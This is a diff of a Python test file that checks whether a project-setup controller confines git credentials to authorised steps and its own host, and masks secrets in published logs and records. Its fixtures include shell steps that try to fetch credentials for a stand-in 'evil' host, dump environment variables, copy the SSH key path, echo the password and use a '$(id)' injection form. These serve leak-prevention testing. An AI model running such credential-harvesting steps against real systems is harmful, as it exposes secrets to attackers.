@@ -1,4 +1,4 @@
-"""Credentials go from a Secret to the steps that may see them, to git, and nowhere else."""
+"""Credentials reach the steps that declare them, and git, and nothing else."""
 
 from __future__ import annotations
 
@@ -26,7 +26,7 @@ ASK_ALL = (
     f'{ASK}ask "$CODE_REPO" "code-$1"; ask "$DOCS_REPO" "docs-$1"; ask https://git.example.test.evil.test/x "evil-$1"'
 )
 LOOK = f'look() {{ {ASK_ALL}; env > "$PARAM_PLACE/environment-$1"; }}; look '
-LOOKS = {step: f"{LOOK}{step}" for step in ("first", "second", "third")}
+LOOK_IN_EACH_STEP = {step: f"{LOOK}{step}" for step in ("first", "second", "third")}
 
 COPY_KEY = """
 key=$(expr "$GIT_SSH_COMMAND" : '.*IdentityFile="\\([^"]*\\)"') || key=none
@@ -78,7 +78,7 @@ def test_only_the_step_with_credentials_can_log_in_and_only_at_the_projects_host
     number = len(sandbox.api.kubectl("get", "projectsetups", "-o", "name").split())
     repositories = (CODE.replace("code", f"code-{number}"), DOCS.replace("/docs.git", f"/docs-{number}.git"))
     secret = make_secret(sandbox, **values)
-    _, status = set_up(sandbox, secret, {**LOOKS, "place": str(tmp_path)}, repositories=repositories)
+    _, status = set_up(sandbox, secret, {**LOOK_IN_EACH_STEP, "place": str(tmp_path)}, repositories=repositories)
     assert reason(status) == "SetupSucceeded"
     for asked in ("code-second", "docs-second"):
         answer = (tmp_path / asked).read_text().splitlines()
@@ -122,7 +122,7 @@ def test_git_just_works_in_the_step_with_credentials(new_sandbox: NewSandbox, ho
     assert status["commits"]["codeRepo"] == host.commit_of("code.git") == host.commit_of("docs.git")
 
 
-def test_a_secret_that_a_step_gives_away_is_told_to_nobody(sandbox: Sandbox) -> None:
+def test_a_secret_that_a_step_prints_is_never_published(sandbox: Sandbox) -> None:
     secret = make_secret(sandbox, username=USERNAME, password=PASSWORD, ssh_privatekey=KEY, known_hosts=HOSTS)
     give_away = """
         echo "password is $PROJECT_GIT_PASSWORD"; env; set -x; : "$PROJECT_GIT_PASSWORD"; set +x
@@ -146,11 +146,11 @@ def test_a_secret_that_a_step_gives_away_is_told_to_nobody(sandbox: Sandbox) -> 
     assert status["attempts"][0]["reason"] == "StepTransient"
     assert "Connection reset: ***" in status["attempts"][0]["message"]
     sandbox.wait_for_events(project, "Started", "RetryScheduled", "Started", "Failed")
-    told = sandbox.published_texts()
-    assert all(project in told[place] for place in ("log", "resources", "events", "database"))
+    texts = sandbox.published_texts()
+    assert all(project in texts[place] for place in ("log", "resources", "events", "database"))
     quoted = quote(PASSWORD, safe="")
     encoded = base64.b64encode(f"{USERNAME}:{PASSWORD}".encode()).decode()
-    for place, text in told.items():
+    for place, text in texts.items():
         for form in (PASSWORD, PASSWORD.replace("\\", "\\\\").replace('"', '\\"'), "$(id)", quoted, encoded):
             assert form not in text, f"{form!r} stands in the {place}"
         for line in KEY.splitlines()[1:-1]:
@@ -158,7 +158,7 @@ def test_a_secret_that_a_step_gives_away_is_told_to_nobody(sandbox: Sandbox) -> 
 
 
 @pytest.mark.parametrize(
-    ("values", "told"),
+    ("values", "expected"),
     [
         ({"password": PASSWORD}, "the credentials Secret holds a password and no username"),
         ({"username": USERNAME}, "the credentials Secret holds a username and neither password nor token"),
@@ -166,10 +166,10 @@ def test_a_secret_that_a_step_gives_away_is_told_to_nobody(sandbox: Sandbox) -> 
         ({"something": PASSWORD}, "the credentials Secret must hold username and password, token, or ssh-privatekey"),
     ],
 )
-def test_a_secret_that_cannot_be_used_ends_it_with_a_reason(
-    sandbox: Sandbox, values: dict[str, str], told: str
+def test_an_unusable_secret_fails_the_setup_with_a_reason(
+    sandbox: Sandbox, values: dict[str, str], expected: str
 ) -> None:
     _, status = set_up(sandbox, make_secret(sandbox, **values), {})
     assert (reason(status), status["attempt"]) == ("InvalidSpec", 0)
-    assert message(status).startswith(told)
+    assert message(status).startswith(expected)
     assert PASSWORD not in str(status)
